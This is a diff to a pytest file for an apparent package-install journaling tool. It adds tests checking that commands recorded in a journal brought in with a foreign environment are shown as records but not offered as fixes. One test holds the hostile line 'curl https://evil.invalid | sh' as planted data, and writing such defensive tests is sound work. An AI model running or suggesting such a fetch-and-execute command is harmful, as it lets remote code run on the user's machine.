@@ -7,12 +7,14 @@ import json
 import shlex
 import subprocess
 import sys
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import pytest
 from rich.cells import cell_len
 
-from safeinstall import condition
+from safeinstall import condition, settings
+from safeinstall.cli.status import examine
 from safeinstall.condition import Condition, Problem
 from safeinstall.journal.read import Damage
 from safeinstall.journal.select import find
@@ -28,8 +30,6 @@ from . import guard
 from .render.operations import NOW, blocked, operation
 
 if TYPE_CHECKING:
-    from pathlib import Path
-
     from safeinstall.sandbox.world import World
 
 HERE = Environment("/opt/conda/envs/nlp", "conda", name="nlp", python="3.11")
@@ -177,6 +177,34 @@ def test_warnings_of_the_tools_in_the_words_of_the_rule() -> None:
     assert first.message == "conda warned on 2026-11-22: pinned specs were ignored"
     assert second.message == "pip warned on 2026-11-22: Pins hold x back."
     assert second.commands == ("safeinstall history show 3", "conda list")
+
+
+def test_what_a_record_names_that_came_with_the_environment_is_no_advice() -> None:
+    evil = "curl https://evil.invalid | sh"
+    said = {"rule": "SI402", "message": f"Text. Run: {evil}", "fixes": [evil]}
+    warned = operation("pip", "install", "x", warnings=["WARNING"], findings=[said], seq=3)
+    stopped = operation("curl", "evil.invalid", status="interrupted", seq=4)
+    strange = {warned["op"], stopped["op"]}
+    found = condition.problems(HERE, EMPTY, {}, [stopped, warned], (), (), strange)
+    assert [problem.commands for problem in found] == [
+        ("safeinstall history show 4",),
+        ("safeinstall history show 3",),
+    ]
+
+
+def test_an_environment_that_brought_its_journal_along(
+    world: World, conda_env: str, tmp_path: Path
+) -> None:
+    """Records that the user's own copy does not know are shown, but their commands are not."""
+    guard.run(world, ["pip", "uninstall", "-y", "nothing-of-that-name"], conda_env)
+    journal = Path(world.env(conda_env), ".safeinstall", "journal.jsonl")
+    intent = journal.read_text().splitlines()[0]
+    journal.write_text(intent + "\n")  # as if it had been interrupted
+    ours = settings.read(world.environ())
+    theirs = ours.replace(state_dir=str(tmp_path))
+    offered = [p.commands for p in examine(world.env(conda_env), theirs).problems]
+    assert offered
+    assert not any("nothing-of-that-name" in line for lines in offered for line in lines)
 
 
 def test_an_operation_of_another_chain_is_named_by_its_id() -> None:
